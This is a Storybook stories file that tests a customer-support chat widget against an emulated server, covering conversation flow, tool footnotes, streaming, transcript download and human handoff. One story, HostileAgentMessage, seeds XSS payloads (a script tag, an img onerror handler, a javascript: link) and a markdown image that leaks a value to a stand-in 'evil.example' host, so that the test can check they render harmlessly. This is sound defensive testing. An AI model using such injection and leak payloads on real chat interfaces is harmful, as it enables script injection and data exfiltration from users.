import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, spyOn, waitFor, within } from 'storybook/test';
import { ParlantChatbox } from '../src';
import { DEFAULT_AGENT_ID } from '../src/testing';
import { chatboxStory, withToolConversation } from './support/chatbox';
import { AGENT_REPLY, conversation, messagesBy, sendMessage } from './support/play';
import { seedHistory } from './support/seed';

/**
 * The whole widget against its own emulated Parlant server (see stories/support/emulator.ts):
 * each story gets a fresh emulator, seeded as it needs, and the widget talks to it over plain
 * `fetch`, intercepted by MSW. Type to the agent: "balance" or "order" calls tools, "explain"
 * sends several messages, "human" hands over to a person, "error" fails the turn, "help" lists
 * the rest.
 */
const meta = {
  title: 'Widget/ParlantChatbox',
  ...chatboxStory,
  tags: ['autodocs'],
  argTypes: {
    server: { control: false, description: 'Base URL of the Parlant server. In these stories: the story’s own emulator.' },
    sessionId: { control: false },
  },
} satisfies Meta<typeof ParlantChatbox>;

export default meta;
type Story = StoryObj<typeof meta>;

/** Nothing said yet: the agent's name, the empty state, and a composer ready to send. */
export const Empty: Story = {
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole('heading', { name: 'Haxon' })).toBeVisible();
    await expect(canvas.getByText('Ask us anything. We usually answer right away.')).toBeVisible();
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toBeEnabled();
    await expect(canvas.getByRole('button', { name: 'Send' })).toBeDisabled();
    await expect(conversation(canvas).queryAllByRole('listitem')).toHaveLength(0);
  },
};

/** Type, press Enter, and the agent answers; the status line goes back to idle. */
export const Conversation: Story = {
  play: async ({ canvas, canvasElement, userEvent }) => {
    await sendMessage(canvas, userEvent, 'Hello there');
    await expect(conversation(canvas).getByText('Hello there')).toBeVisible();
    await expect(await conversation(canvas).findByText('Hello there', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    await waitFor(() => expect(canvasElement.querySelector('.parlant-status')).toHaveAttribute('data-state', 'idle'), AGENT_REPLY);
    await expect(messagesBy(canvas, 'customer')).toHaveLength(1);
    await expect(messagesBy(canvas, 'agent')).toHaveLength(1);
  },
};

/** Resuming an existing session: its history loads, tool footnotes included. */
export const ResumedConversation: Story = {
  parameters: {
    parlant: withToolConversation,
    frame: { width: 440, height: 680, padding: 20, background: '#e9edf2' },
    screenshot: { file: 'widget-light.png', selector: '[data-story-frame]' },
  },
  play: async ({ canvas }) => {
    const log = conversation(canvas);
    await expect(await log.findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    await expect(log.getByText('A-1042')).toBeVisible();
    await expect(log.getByText('1 tool used')).toBeVisible();
    await expect(log.getByText('2 tools used')).toBeVisible();
    await expect(canvas.getByText('Online')).toBeVisible();
  },
};

/** The agent is working on an answer and reports its stage. */
export const Thinking: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.appendEvent(id, { source: 'customer', message: 'Can you check why my last invoice was so high?', trace_id: 'trace-invoice' });
        emu.appendEvent(id, { status: 'acknowledged', trace_id: 'trace-invoice' });
        emu.appendEvent(id, { status: 'processing', statusData: { stage: 'Interpreting' }, trace_id: 'trace-invoice' });
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    const status = canvas.getByRole('status');
    await waitFor(() => expect(status).toHaveTextContent('Thinking (interpreting)…'), AGENT_REPLY);
    await expect(status).toHaveAttribute('data-state', 'thinking');
  },
};

/** The agent is typing its reply. */
export const Typing: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.appendEvent(id, { source: 'customer', message: 'Do you ship to Canada?', trace_id: 'trace-ship' });
        emu.appendEvent(id, { status: 'processing', trace_id: 'trace-ship' });
        emu.appendEvent(id, { status: 'typing', trace_id: 'trace-ship' });
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    await waitFor(() => expect(canvas.getByRole('status')).toHaveTextContent('Haxon is typing…'), AGENT_REPLY);
  },
};

/** The agent called a tool before answering; the footnote opens to show arguments and result. */
export const ToolFootnotes: Story = {
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'What is my balance?');
    const log = conversation(canvas);
    await expect(await log.findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    const summary = log.getByText('1 tool used');
    await expect(log.getByText('get_balance')).toBeVisible();
    await expect(log.queryByText('Arguments')).not.toBeVisible();
    await userEvent.click(summary);
    const details = within(summary.closest('details') as HTMLElement);
    await expect(details.getByText('Arguments')).toBeVisible();
    await expect(details.getByText('bank:get_balance')).toBeVisible();
    await expect(details.getByText(/"balance": 5000\.5/)).toBeVisible();
  },
};

/**
 * `downloadTranscript="markdown"`: the header's download button saves the conversation, tools
 * included, as a Markdown file made in the page.
 */
export const TranscriptDownload: Story = {
  args: { downloadTranscript: 'markdown' },
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'What is my balance?');
    await expect(await conversation(canvas).findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    // Read the file the link points at instead of letting the browser save it.
    const saved: Array<{ name: string; text: Promise<string> }> = [];
    const click = spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      saved.push({ name: this.download, text: fetch(this.href).then((response) => response.text()) });
    });
    try {
      await userEvent.click(canvas.getByRole('button', { name: 'Download the conversation' }));
    } finally {
      click.mockRestore();
    }
    await expect(saved.map((file) => file.name)).toEqual([expect.stringMatching(/^conversation-.*\.md$/)]);
    const text = await saved[0]!.text;
    await expect(text).toContain('What is my balance?');
    await expect(text).toContain('- Tool `bank:get_balance`');
    await expect(text.indexOf('What is my balance?')).toBeLessThan(text.indexOf('$5,000.50'));
  },
};

/** One customer message, three agent messages in the same turn; the name shows once. */
export const SeveralMessagesInOneTurn: Story = {
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'Can you explain how to change my plan?');
    const log = conversation(canvas);
    await expect(await log.findByText('Anything else I can help with?', {}, AGENT_REPLY)).toBeVisible();
    await expect(log.getByText('Sure, let me walk you through it.')).toBeVisible();
    const replies = messagesBy(canvas, 'agent');
    await expect(replies).toHaveLength(3);
    await expect(within(replies[0] as HTMLElement).getByText('Haxon')).toBeVisible();
    await expect(within(replies[1] as HTMLElement).queryByText('Haxon')).toBeNull();
  },
};

/**
 * A streamed reply (an agent in `stream` output mode): the message appears with its first words
 * and grows in place until complete, while the rest of the list stays as it is.
 */
export const StreamedReply: Story = {
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'Please stream your answer');
    await waitFor(() => expect(messagesBy(canvas, 'agent')[0]).toHaveAttribute('data-streaming', 'true'), AGENT_REPLY);
    const reply = messagesBy(canvas, 'agent')[0] as HTMLElement;
    const partial = reply.textContent ?? '';
    await waitFor(() => expect(reply).not.toHaveAttribute('data-streaming'), AGENT_REPLY);
    await expect((reply.textContent ?? '').length).toBeGreaterThan(partial.length);
    await expect(messagesBy(canvas, 'agent')).toHaveLength(1);
  },
};

/** Custom events (a card a tool posted) rendered among the messages by a host component. */
export const CustomEvents: Story = {
  args: {
    components: {
      CustomEvent: ({ event }) => (
        <p style={{ margin: '6px 0', padding: '8px 12px', border: '1px dashed currentColor', borderRadius: 8 }}>
          📦 {String((event.data as { card?: string }).card)}
        </p>
      ),
    },
  },
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.customerSay(id, 'Where is my order?');
        emu.appendEvent(id, { kind: 'custom', source: 'ai_agent', data: { card: 'Order A-1042 · shipped with DHL' } });
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    await expect(await conversation(canvas).findByText(/Order A-1042 · shipped with DHL/, {}, AGENT_REPLY)).toBeVisible();
  },
};

/** The agent hands the chat to a person: the moment is marked, the header says who is answering. */
export const HumanHandoff: Story = {
  play: async ({ canvas, canvasElement, userEvent }) => {
    await sendMessage(canvas, userEvent, 'I would like to talk to a human, please');
    const log = conversation(canvas);
    await expect(await log.findByText(/handing you over to a human colleague/, {}, AGENT_REPLY)).toBeVisible();
    await expect(await log.findByText('Dana (support) joined the conversation', {}, AGENT_REPLY)).toBeVisible();
    const [human] = messagesBy(canvas, 'human_agent');
    await expect(within(human as HTMLElement).getByText('Dana (support)')).toBeVisible();
    await expect(within(human as HTMLElement).getByText('Support team')).toBeVisible();
    await expect(canvasElement.querySelector('.parlant-status')).toHaveAttribute('data-state', 'idle');
    await expect(within(canvas.getByRole('banner')).getByText('You’re now chatting with Dana (support)')).toBeVisible();
  },
};

/** 300 messages of history load at once, scrolled to the latest. */
export const LongHistory: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        seedHistory(emu, id, 300);
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas, canvasElement }) => {
    const log = conversation(canvas);
    // Only the latest messages are in the DOM; the rest are a button away.
    await waitFor(() => expect(log.getAllByRole('listitem')).toHaveLength(30), AGENT_REPLY);
    await expect(log.getByText(/\(#300\)$/)).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Show earlier messages (270 more)' })).toBeInTheDocument();
    const scroller = canvasElement.querySelector('.parlant-scroller') as HTMLElement;
    await waitFor(() => expect(scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight).toBeLessThan(48));
    // A history without status events is answered history: nothing is waiting for a reply.
    await expect(canvasElement.querySelector('.parlant-status')).toHaveAttribute('data-state', 'idle');
    await expect(canvas.queryByText('Waiting for a reply…')).toBeNull();
  },
};

/** With `createSession="start"` and `greet`, the agent speaks first (here an agent told to greet). */
export const Greeting: Story = {
  args: { createSession: 'start', greet: true },
  parameters: { parlant: { options: { agents: [{ id: DEFAULT_AGENT_ID, name: 'Haxon', greeting: "Hi! I'm Haxon. How can I help you today?" }] } } },
  play: async ({ canvas }) => {
    await expect(await conversation(canvas).findByText("Hi! I'm Haxon. How can I help you today?", {}, AGENT_REPLY)).toBeVisible();
  },
};

/** An agent message full of markup and script URLs renders as harmless text and safe links. */
export const HostileAgentMessage: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.appendEvent(id, { source: 'customer', message: 'Show me something nasty' });
        emu.agentSay(
          id,
          [
            'Here you go: <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned=1">',
            '',
            '[click me](javascript:window.__pwned=1) and [a real link](https://docs.example.com/help)',
            '',
            '![tracker](https://evil.example/leak?q=secret)',
          ].join('\n'),
        );
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    const log = canvas.getByRole('log', { name: 'Conversation' });
    await waitFor(() => expect(log).toHaveTextContent('<script>window.__pwned = 1</script>'), AGENT_REPLY);
    // Nothing a message says becomes an element of its own (the widget's own icons are outside the bubbles).
    await expect(log.querySelector(':is(.parlant-bubble) :is(script, img, iframe, svg)')).toBeNull();
    for (const link of within(log).getAllByRole('link')) await expect(link.getAttribute('href')).toMatch(/^https:/);
    await expect(within(log).getByRole('link', { name: 'tracker (Image from evil.example)' })).toBeVisible();
    await expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  },
};
